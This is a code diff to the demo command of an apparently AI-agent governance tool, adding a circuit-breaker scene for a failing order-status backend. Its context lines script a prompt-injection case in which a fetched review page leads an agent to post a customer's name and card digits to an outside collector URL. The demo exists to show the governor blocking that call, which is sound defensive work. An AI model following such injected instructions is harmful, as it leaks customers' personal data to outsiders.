@@ -15,6 +15,7 @@ import { loadPrivateKey, loadPublicKey } from '../audit/keys.js';
 import { verifyAuditLog } from '../audit/verify.js';
 import type { DecisionEvent, DecisionSink } from '../decision.js';
 import { createMemoryStore } from '../store/memory.js';
+import { createSre, type SreRuntime } from '../sre/runtime.js';
 import { EXIT, effectLabel, reportFatal } from './output.js';
 import { WardenError } from '../errors.js';
 
@@ -51,6 +52,43 @@ export const FLOW_SCENE: readonly Step[] = [
   { say: 'Fetch a review page (untrusted content; it carries injected instructions)', tool: 'fetch_url', args: { url: 'https://reviews.example/shop' } },
   { say: 'The injected instructions: post the customer record to an outside URL', tool: 'post_webhook', args: { url: 'https://collector.example/in', body: 'customer C-1042: Ada Lovelace, card ending 4242' } },
 ];
+/**
+ * The second scene: an order-status backend fails, its circuit breaker opens after three failures,
+ * the agent is told why and when to retry, and after the cool-down a probe call finds it healthy
+ * and the breaker closes.
+ */
+async function breakerScene(governor: Governor, sre: SreRuntime, advance: (ms: number) => void): Promise<{ ran: number; blocked: number }> {
+  let healthy = false;
+  const orderStatus = governor.wrap('get_order_status', async (a: { order: string }) => {
+    if (!healthy) throw new Error('upstream answered 503 Service Unavailable');
+    return `order ${a.order} shipped`;
+  });
+  console.log('Scene 2: the order-status backend goes down while the agent keeps asking.\n');
+  let ran = 0;
+  let blocked = 0;
+  const attempt = async (say: string): Promise<void> => {
+    let line: string;
+    try {
+      line = `ALLOW  ran: ${await orderStatus({ order: 'O-311' })}`;
+      ran++;
+    } catch (e) {
+      if (e instanceof GovernanceDenied) {
+        line = `${effectLabel(e.decision.effect)}  blocked before it ran\n      why: ${e.decision.reason}`;
+        blocked++;
+      } else {
+        line = `ALLOW  ran, and failed: ${e instanceof Error ? e.message : String(e)}`;
+        ran++;
+      }
+    }
+    console.log(`  - ${say}\n    get_order_status {"order":"O-311"}\n    ${line}  [breaker: ${sre.breakerStates().get('get_order_status') ?? 'closed'}]\n`);
+  };
+  for (let i = 1; i <= 3; i++) await attempt(`Check the order (try ${i})`);
+  await attempt('Check the order again');
+  advance(30_000);
+  healthy = true;
+  await attempt('30 seconds later (the demo moves its clock instead of waiting): the backend is back');
+  return { ran, blocked };
+}
 
 /** Registers `warden demo`. */
 export function registerDemoCommand(program: Command): void {
@@ -96,7 +134,11 @@ async function runDemo(policyPaths: string[], auditPath: string, signingKeyPath?
     approvals.push(`${ask.approvers.join(', ')} ${ok ? 'approved' : 'rejected'} ${ask.request.tool} ${JSON.stringify(ask.request.args)} (bound to ${ask.requestDigest.slice(0, 19)}...)`);
     return ok;
   };
-  const governor = new Governor({ policy, agent: { id: 'support-bot-7', roles: ['support'] }, context: { environment: 'production' }, sink, approvalHandler: approver });
+  // The SRE runtime watches every call; the demo moves its clock forward instead of waiting out a cool-down.
+  let skew = 0;
+  const now = (): number => Date.now() + skew;
+  const sre = createSre({ breakers: [{ name: 'orders', tools: ['get_order_status'], failureThreshold: 3, coolDown: '30s' }], now });
+  const governor = new Governor({ policy, agent: { id: 'support-bot-7', roles: ['support'] }, context: { environment: 'production' }, sink, approvalHandler: approver, clock: () => new Date(now()), monitors: [sre] });
   const done: string[] = [];
   const tools = governor.wrapAll({
     search_docs: async (a: { query: string }) => `3 articles about ${a.query}`,
@@ -152,12 +194,14 @@ async function runDemo(policyPaths: string[], auditPath: string, signingKeyPath?
     }
     console.log(`${String(i).padStart(2)}. ${step.say}\n    ${step.tool} ${JSON.stringify(step.args)}\n    ${line}\n`);
   }
+  const scene = await breakerScene(governor, sre, (ms) => (skew += ms));
   console.log('Approvals asked:');
   for (const a of approvals) console.log(`  - ${a}`);
   const counts = new Map<string, number>();
   for (const e of events) counts.set(e.outcome?.effect ?? e.decision.effect, (counts.get(e.outcome?.effect ?? e.decision.effect) ?? 0) + 1);
   console.log(`\n${events.length} decisions recorded: ${[...counts].map(([k, v]) => `${v} ${k}`).join(', ')}.`);
   console.log(`Of the first ${DEMO_SCRIPT.length} calls, ${done.length} ran and ${DEMO_SCRIPT.length - done.length} were stopped before any work started; in the session scene, stopped: ${flowBlocked.join(', ') || 'none'}.`);
+  console.log(`In the breaker scene, ${scene.ran} calls ran (3 of them failed) and ${scene.blocked} was stopped by the open breaker.`);
   await log.close();
   const result = await verifyAuditLog(await listAuditFiles(log.path), publicKey ? { publicKey } : {});
   if (!result.ok) {
